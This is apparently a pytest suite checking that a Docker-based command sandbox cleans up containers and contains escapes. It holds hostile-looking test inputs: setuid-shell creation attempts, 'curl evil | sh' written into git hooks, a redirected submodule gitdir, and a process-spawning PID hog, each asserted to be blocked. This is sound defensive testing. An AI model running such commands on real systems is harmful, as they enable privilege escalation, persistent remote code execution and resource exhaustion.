"""Container lifecycle against a real engine: reaping, killed front-ends, ownership, runtimes."""

from __future__ import annotations

import asyncio
import contextlib
import os
import signal
import subprocess
import sys
import time
from pathlib import Path

import docker
import pytest

from sandbox import images
from sandbox.docker import DockerConfig, DockerSession, reap
from sandbox.lifecycle import LABEL, stale_reason

from .containers import pids_used, wait_until

pytestmark = [pytest.mark.docker]

FRONTEND = """
import asyncio, sys
from pathlib import Path
from sandbox.docker import DockerSession
async def main():
    s = await DockerSession.create(Path(sys.argv[1]))
    print(s.container.id, flush=True)
    await asyncio.sleep(3600)
asyncio.run(main())
"""


def _wait_gone(client: docker.DockerClient, container_id: str, deadline_s: float = 60) -> bool:
    end = time.monotonic() + deadline_s
    while time.monotonic() < end:
        try:
            client.containers.get(container_id)
        except docker.errors.NotFound:
            return True
        time.sleep(0.2)
    return False


def test_sigkilled_frontend_leaves_nothing_running(docker_client: docker.DockerClient, user_workspace: Path) -> None:
    proc = subprocess.Popen([sys.executable, "-c", FRONTEND, str(user_workspace)], stdout=subprocess.PIPE, text=True)
    assert proc.stdout is not None
    container_id = proc.stdout.readline().strip()
    assert docker_client.containers.get(container_id).status == "running"
    os.kill(proc.pid, signal.SIGKILL)
    proc.wait()
    # The attach stream closes with the process, the helper sees EOF, the container goes.
    assert _wait_gone(docker_client, container_id)


def test_reaper_removes_containers_of_dead_owners(docker_client: docker.DockerClient) -> None:
    dead = subprocess.Popen(["true"])
    dead.wait()
    labels = {
        LABEL: "reaper-test",
        "sandloop.owner_pid": str(dead.pid),
        "sandloop.owner_start": "1",
        "sandloop.owner_host": os.uname().nodename,
        "sandloop.expires": str(int(time.time() + 3600)),
    }
    orphan = docker_client.containers.run(
        images.image_name("shell"), ["sleep", "600"], detach=True, labels=labels, network_mode="none"
    )
    try:
        assert stale_reason(labels, "running") is not None
        removed = reap(docker_client)
        assert any(name == orphan.name for name, _ in removed)
        assert _wait_gone(docker_client, orphan.id, 10)
    finally:
        with contextlib.suppress(docker.errors.NotFound):
            orphan.remove(force=True)


def test_stale_reason_rules() -> None:
    me = {
        LABEL: "x",
        "sandloop.owner_pid": str(os.getpid()),
        "sandloop.owner_host": os.uname().nodename,
        "sandloop.expires": str(int(time.time() + 60)),
    }
    assert stale_reason(me, "running") is None
    assert stale_reason({**me, "sandloop.expires": "1"}, "running") == "expired"
    assert stale_reason(me, "exited") == "container exited"
    assert stale_reason({**me, "sandloop.owner_start": "no-such-start"}, "running") is not None
    other_host = {**me, "sandloop.owner_host": "elsewhere", "sandloop.owner_pid": "1"}
    assert stale_reason(other_host, "running") is None  # only its expiry can tell


async def test_closing_removes_the_container(docker_client: docker.DockerClient, user_workspace: Path) -> None:
    s = await DockerSession.create(user_workspace, client=docker_client)
    assert s.container is not None
    cid = s.container.id
    await s.close()
    assert _wait_gone(docker_client, cid, 10)


async def test_read_only_workspace(docker_client: docker.DockerClient, user_workspace: Path) -> None:
    (user_workspace / "f.txt").write_text("x")
    async with await DockerSession.create(
        user_workspace, DockerConfig(read_only_workspace=True), client=docker_client
    ) as s:
        r = await s.run("cat f.txt; touch g.txt")
        assert r.stdout.text == "x" and r.exit_code != 0 and "Read-only" in r.stderr.text


async def test_root_owned_checkout_runs_as_uid0_without_capabilities(docker_client: docker.DockerClient,
                                                                     tmp_path: Path) -> None:
    ws = tmp_path / "rootrepo"
    ws.mkdir()
    (ws / "theirs.txt").write_text("owned by 1000\n")
    os.chown(ws / "theirs.txt", 1000, 1000)
    os.chmod(ws / "theirs.txt", 0o644)
    async with await DockerSession.create(ws, client=docker_client) as s:
        assert s.user == "0:0" and "capability" in s.user_reason
        r = await s.run("id -u; grep CapEff /proc/self/status; echo ok > mine.txt && cat mine.txt")
        assert r.stdout.text.split() == ["0", "CapEff:", "0000000000000000", "ok"]
        # root in name only: no CAP_DAC_OVERRIDE, so another user's file stays theirs
        r = await s.run("echo hijack >> theirs.txt")
        assert r.exit_code != 0 and "Permission denied" in r.stderr.text
        await _assert_no_setid_files(s, ws)
    assert (ws / "theirs.txt").read_text() == "owned by 1000\n"


SETID_ATTEMPTS = [
    "cp /bin/bash sh-suid && chmod 4755 sh-suid",
    "chmod u+s sh-suid",
    "chmod 2755 sh-suid",
    "install -m 4755 /bin/true inst-suid",
    "python3 -c \"import os; os.close(os.open('py-suid', os.O_CREAT | os.O_WRONLY, 0o4755))\"",
    "python3 -c \"import os; os.chmod('sh-suid', 0o6755)\"",
    "unshare -U true",  # a user namespace would hand out capabilities again
]


async def _assert_no_setid_files(s: DockerSession, ws: Path) -> None:
    """As uid 0 the sandbox must not leave a setuid/setgid file on the host (a root shell)."""
    for command in SETID_ATTEMPTS:
        r = await s.run(command)
        assert r.exit_code != 0, command
    for path in ws.iterdir():
        assert not path.stat().st_mode & 0o6000, f"{path.name} is setuid/setgid on the host"
    r = await s.run("chmod 755 sh-suid && ./sh-suid -c 'echo still a shell'")
    assert r.stdout.text == "still a shell\n"  # ordinary modes still work


async def test_root_owned_checkout_under_gvisor_refuses_setid_too(docker_client: docker.DockerClient,
                                                                  tmp_path: Path) -> None:
    if not _has_runsc(docker_client):
        pytest.skip("the engine has no runsc runtime")
    ws = tmp_path / "rootrepo"
    ws.mkdir()
    async with await DockerSession.create(ws, DockerConfig(runtime="runsc"), client=docker_client) as s:
        assert s.user == "0:0"
        await _assert_no_setid_files(s, ws)


async def test_image_without_python_is_a_clear_error(docker_client: docker.DockerClient, user_workspace: Path) -> None:
    with pytest.raises(Exception) as info:
        await DockerSession.create(user_workspace, DockerConfig(image="debian:bookworm-slim"), client=docker_client)
    assert "debian:bookworm-slim" in str(info.value) and "python3" in str(info.value)


async def test_missing_image_is_a_clear_error(docker_client: docker.DockerClient, user_workspace: Path) -> None:
    with pytest.raises(Exception) as info:
        await DockerSession.create(user_workspace, DockerConfig(image="sandloop-no-such:image"), client=docker_client)
    assert "bootstrap" in str(info.value)


def _has_runsc(client: docker.DockerClient) -> bool:
    return "runsc" in (client.info().get("Runtimes") or {})


async def test_gvisor_runtime_is_really_in_force(docker_client: docker.DockerClient, user_workspace: Path) -> None:
    if not _has_runsc(docker_client):
        pytest.skip("the engine has no runsc runtime (scripts/bootstrap registers it where apt has it)")
    async with await DockerSession.create(user_workspace, DockerConfig(runtime="runsc"), client=docker_client) as s:
        assert s.runtime_in_force() == "runsc"
        r = await s.run("echo hi; uname -r")
        assert r.stdout.text.startswith("hi\n")
        assert r.stdout.text.split()[1] != os.uname().release  # gVisor's own kernel, not the host's
        # Parallel load: the sentry's own threads share the cgroup's pids limit (it used to die).
        for _ in range(4):
            results = await asyncio.gather(*[s.run("sleep 0.2; echo ok") for _ in range(8)])
            assert [x.stdout.text for x in results] == ["ok\n"] * 8
        assert s.restarts == 0


async def test_policy_environment_reaches_every_command(docker_client: docker.DockerClient,
                                                        user_workspace: Path) -> None:
    config = DockerConfig(env={"FROM_POLICY": "yes", "BOTH": "policy"})
    async with await DockerSession.create(user_workspace, config, client=docker_client) as s:
        r = await s.run('echo "$FROM_POLICY $BOTH"', env={"BOTH": "call"})
        assert r.stdout.text == "yes call\n"


async def test_policy_network_allow_list_goes_through_the_egress_proxy(docker_client: docker.DockerClient,
                                                                       user_workspace: Path) -> None:
    probe = (
        "import urllib.request, urllib.error\n"
        "try:\n    urllib.request.urlopen('http://blocked.test/', timeout=20)\n"
        "except urllib.error.HTTPError as e:\n    print(e.code, e.read().decode())\n"
    )
    (user_workspace / "probe.py").write_text(probe)
    config = DockerConfig(network_allow=("allowed.test",))
    async with await DockerSession.create(user_workspace, config, client=docker_client) as s:
        assert s.egress is not None and s.config.network == s.egress.network
        r = await s.run("ls /sys/class/net; echo $HTTPS_PROXY; python3 probe.py", timeout_s=60)
        lines = r.stdout.text.splitlines()
        assert lines[:2] == ["eth0", "lo"] and lines[2].startswith("http://")
        assert lines[3].startswith("403") and "blocked.test:80 matches none of: allowed.test" in r.stdout.text
        network = s.egress.network
    assert docker_client.api.networks(names=[network]) == []


async def test_git_dir_is_read_only_to_commands(docker_client: docker.DockerClient, user_workspace: Path) -> None:
    (user_workspace / ".git" / "hooks").mkdir(parents=True)
    (user_workspace / "src.txt").write_text("x\n")
    os.chown(user_workspace / "src.txt", 1000, 1000)
    async with await DockerSession.create(user_workspace, client=docker_client) as s:
        r = await s.run("echo 'curl evil | sh' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit")
        assert r.exit_code != 0 and "Read-only file system" in r.stderr.text
        r = await s.run("echo y >> src.txt && cat src.txt")  # the rest of the checkout stays writable
        assert r.stdout.text == "x\ny\n"
    assert not (user_workspace / ".git" / "hooks" / "pre-commit").exists()


async def test_gvisor_with_an_allow_list_is_refused_up_front(docker_client: docker.DockerClient,
                                                             user_workspace: Path) -> None:
    from sandloop.errors import ConfigError

    with pytest.raises(ConfigError, match="runsc"):
        await DockerSession.create(user_workspace, DockerConfig(runtime="runsc", network_allow=("pkgs.example.test",)),
                                   client=docker_client)


async def test_escaped_pid_hog_is_reclaimed_so_the_session_keeps_working(docker_client: docker.DockerClient,
                                                                         user_workspace: Path) -> None:
    async with await DockerSession.create(user_workspace, DockerConfig(pids_limit=64), client=docker_client) as s:
        r = await s.run("setsid sh -c 'while :; do sleep 1000 & done' >/dev/null 2>&1 & echo started")
        assert r.stdout.text == "started\n"

        def full() -> bool:
            current, limit = pids_used(s)
            return current >= limit * 0.9

        await wait_until(full, "the hog fills the pids limit")
        ok = await s.run("echo alive", timeout_s=30)
        assert ok.stdout.text == "alive\n" and s.restarts == 0


def _own(path: Path) -> None:
    for p in [path, *path.rglob("*")]:
        os.chown(p, 1000, 1000, follow_symlinks=False)


async def test_hooks_path_in_the_checkout_and_a_symlinked_git_dir_are_read_only(docker_client: docker.DockerClient,
                                                                                tmp_path: Path) -> None:
    from sandbox.docker import protected_paths

    ws = tmp_path / "repo"
    (ws / ".gitreal" / "hooks").mkdir(parents=True)
    (ws / ".gitreal" / "config").write_text("[core]\n\thooksPath = .husky\n")
    (ws / ".git").symlink_to(".gitreal")
    (ws / ".husky").mkdir()
    (ws / "outside-link").symlink_to("/etc")
    _own(ws)
    assert protected_paths(ws, (".git", "outside-link")) == [ws / ".gitreal", ws / ".husky"]
    async with await DockerSession.create(ws, client=docker_client) as s:
        for target in (".husky/pre-commit", ".gitreal/hooks/pre-commit", ".git/hooks/post-checkout"):
            r = await s.run(f"echo 'curl evil | sh' > {target}")
            assert r.exit_code != 0 and "Read-only file system" in r.stderr.text, target
        assert (await s.run("echo ok > src.txt && cat src.txt")).stdout.text == "ok\n"
    assert not (ws / ".husky" / "pre-commit").exists()


async def test_a_submodules_git_file_is_read_only(docker_client: docker.DockerClient, tmp_path: Path) -> None:
    # lib/.git names the submodule's git folder; rewritten, it would point the host's git (run
    # in lib/) at a config the sandbox wrote, core.fsmonitor included.
    from sandbox.docker import protected_paths

    ws = tmp_path / "repo"
    (ws / ".git" / "modules" / "lib").mkdir(parents=True)
    (ws / "lib").mkdir()
    (ws / "lib" / ".git").write_text("gitdir: ../.git/modules/lib\n")
    (ws / ".gitmodules").write_text('[submodule "lib"]\n\tpath = lib\n\turl = ../lib.git\n'
                                    '[submodule "out"]\n\tpath = ../elsewhere\n')
    _own(ws)
    assert protected_paths(ws, (".git",)) == [ws / ".git", ws / "lib" / ".git"]
    async with await DockerSession.create(ws, client=docker_client) as s:
        r = await s.run("echo 'gitdir: /tmp/evil' > lib/.git")
        assert r.exit_code != 0 and "Read-only file system" in r.stderr.text
        assert (await s.run("echo ok > lib/src.txt && cat lib/src.txt")).stdout.text == "ok\n"
    assert (ws / "lib" / ".git").read_text() == "gitdir: ../.git/modules/lib\n"


async def test_idle_helper_exits_and_the_session_starts_a_new_one(docker_client: docker.DockerClient,
                                                                   user_workspace: Path) -> None:
    async with await DockerSession.create(user_workspace, DockerConfig(idle_expiry_s=1), client=docker_client) as s:
        assert s.container is not None
        first = s.container.id
        assert (await s.run("echo hi")).stdout.text == "hi\n"
        # No request for a while: the helper (PID 1) exits, and the container with it.
        assert await asyncio.to_thread(_wait_gone, docker_client, first, 60)
        r = await s.run("echo again")
        assert r.stdout.text == "again\n" and s.container is not None and s.container.id != first
